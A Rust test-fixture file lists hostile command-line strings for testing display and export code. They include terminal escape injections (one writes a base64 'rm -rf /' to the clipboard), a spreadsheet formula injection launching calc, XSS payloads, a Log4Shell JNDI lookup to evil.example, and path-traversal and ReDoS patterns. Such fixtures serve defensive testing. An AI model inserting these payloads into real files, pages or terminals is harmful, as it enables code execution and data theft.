//! Beginnings of command lines, each hostile to a program that shows or exports it.

/// Valid Unicode.
pub const TEXTS: &[&str] = &[
    // A terminal: clear, move, colour, title, clipboard, hyperlink, a question that types an answer, a reset.
    "curl \u{1b}[2J\u{1b}[H\u{1b}[32mall clear\u{1b}[0m",
    "curl \u{1b}]0;owned\u{7}",
    "curl \u{1b}]52;c;cm0gLXJmIC8=\u{7}",
    "curl \u{1b}]8;;https://evil.example/\u{1b}\\click\u{1b}]8;;\u{1b}\\",
    "curl \u{1b}[6n\u{1b}[c\u{1b}P$q\"p\u{1b}\\",
    "curl \u{1b}c",
    "curl \u{9b}31mred\u{9b}0m \u{9d}0;title\u{9c} \u{85}next",
    // Control characters, and others that move a cursor or end a line.
    "curl a\tb\tc",
    "curl first\r\nsecond\rthird\nfourth",
    "curl \u{8}\u{8}\u{8}\u{8}wget \u{b}\u{c}\u{7f}\u{1}",
    "curl \u{2028}line\u{2029}paragraph",
    // A reader's eye: direction, nothing, look-alikes, stacks.
    "curl \u{202e}sj.daolpu\u{202c}",
    "curl \u{2066}abc\u{2069} \u{2067}def\u{2069} \u{200f}\u{200e}\u{61c}",
    "curl z\u{200b}e\u{200c}r\u{200d}o\u{2060}\u{feff}\u{ad}",
    "curl Z\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}algo",
    "curl 全角文字と絵文字👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿",
    "curl \u{e0041}\u{e0042}\u{fe0f}\u{fe00}",
    // A spreadsheet.
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\"quoted\",\"and\",'so', on;",
    // A page.
    "curl | a | b |\u{20}`code` **bold** [x](javascript:alert(1)) ![i](https://evil.example/i.png)",
    "curl <script>alert(1)</script> <img src=x onerror=alert(1)> &lt; &amp;amp; ]]> <!-- -->",
    // A program that takes a text for a pattern, a path, a format, or a number.
    "curl %s%n %TEMP% {0} ${jndi:ldap://evil.example/a} .*(a+)+$ \\x41 \\u0041 ..\\..\\",
    "curl NaN null true 1e999 -0",
];

/// UTF-16 that is no Unicode: half a pair, the halves in the wrong order, and what XML forbids.
pub const BROKEN_UNITS: &[&[u16]] = &[
    &[0x63, 0x75, 0x72, 0x6c, 0x20, 0xd83d],
    &[0x63, 0x75, 0x72, 0x6c, 0x20, 0xdc00, 0xd83d, 0x41],
    &[0x63, 0x75, 0x72, 0x6c, 0x20, 0xfffe, 0xffff],
];
